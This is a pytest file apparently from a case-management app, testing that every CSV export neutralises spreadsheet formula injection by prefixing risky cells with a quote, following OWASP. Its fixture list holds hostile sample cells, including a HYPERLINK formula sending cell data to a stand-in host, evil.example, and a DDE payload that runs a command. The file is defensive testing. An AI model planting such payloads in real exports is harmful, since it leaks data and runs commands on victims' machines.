"""Spreadsheet formula injection ("CSV injection") in every CSV the app writes.

OWASP, "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection):
a cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read as a formula by Excel, LibreOffice and Google Sheets, so a record named
``=HYPERLINK(...)`` runs in the spreadsheet of whoever exports it. OWASP's
advice, followed here: prefix such a cell with a single quote.

Every CSV export is found by enumeration, so a new one cannot forget:
- every GET route is requested (tests/test_csrf.py's walk, also asking each
  for ``format=csv``), and any answer in ``text/csv`` must come from an
  endpoint registered in ``CSV_EXPORTS``;
- every registered export is requested with records named like formulas,
  and no cell of it may begin a formula;
- no module but ``caseboard/spreadsheets.py`` makes a ``csv.writer``.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta
from itertools import pairwise
from pathlib import Path

import pytest

from caseboard.extensions import db
from caseboard.services.contacts import log_interaction
from caseboard.spreadsheets import CSV_EXPORTS, FORMULA_TRIGGERS, safe_cell, write_csv
from tests.conftest import sign_in
from tests.test_csrf import get_urls

FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed=1+1",
    "\r=1+1",
]
CASEBOARD = Path(__file__).resolve().parent.parent / "caseboard"


@pytest.mark.parametrize("name", FORMULA_NAMES)
def test_a_cell_that_could_start_a_formula_is_quoted(name):
    assert safe_cell(name) == "'" + name
    assert safe_cell("Elena Ruiz") == "Elena Ruiz"
    assert safe_cell(-0.5) == -0.5  # a number is not a formula
    assert safe_cell(None) == ""


def test_write_csv_quotes_header_and_cells():
    text = write_csv(["=a", "b"], [["@c", 1], ["d", "-e"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["'=a", "b"], ["'@c", "1"], ["d", "'-e"]]


@pytest.fixture
def formula_town(make_user, make_person, make_organization):
    org = make_organization(name="=Organization")
    admin = make_user(role="admin", organization=org)
    people = [make_person(organization=org, full_name=name) for name in FORMULA_NAMES]
    recent = date.today() - timedelta(days=3)
    for a, b in pairwise(people):
        log_interaction(admin, occurred_on=recent, kind="visit", people=[a, b])
    db.session.commit()
    return admin, [person.full_name for person in people]


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("endpoint", sorted(CSV_EXPORTS))
def test_no_cell_of_a_csv_export_can_start_a_formula(
    app, client, formula_town, endpoint
):
    sign_in(client, formula_town[0])
    url = app.url_map.bind("localhost").build(endpoint, CSV_EXPORTS[endpoint])
    response = client.get(url)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = csv_rows(response.text)
    cells = [cell for row in rows for cell in row]
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert not dangerous, f"{url}: {dangerous}"
    # The names are there as recorded (stripped of leading space), quoted.
    _, stored = formula_town
    assert {"'" + name for name in stored if name[0] in "=+-@"} <= set(cells)
    assert len([name for name in stored if name[0] in "=+-@"]) >= 5


def test_every_csv_answer_comes_from_a_registered_export(app, client, world):
    sign_in(client, world.admin)
    seen = set()
    for url in get_urls(app, world):
        for ask in ("", "format=csv"):
            full = url + (("&" if "?" in url else "?") + ask if ask else "")
            response = client.get(full)
            response.close()
            if response.mimetype == "text/csv":
                endpoint = app.url_map.bind("localhost").match(url.split("?")[0])[0]
                assert endpoint in CSV_EXPORTS, (
                    f"{full} answers CSV: add {endpoint} to CSV_EXPORTS and write "
                    "it with caseboard.spreadsheets.write_csv"
                )
                seen.add(endpoint)
    assert seen == set(CSV_EXPORTS), "CSV_EXPORTS names routes that give no CSV"


def test_only_the_helper_writes_csv():
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(CASEBOARD))
        for path in CASEBOARD.rglob("*.py")
        if path.name != "spreadsheets.py" and writers.search(path.read_text())
    ]
    assert offenders == [], "write CSV with caseboard.spreadsheets.write_csv"
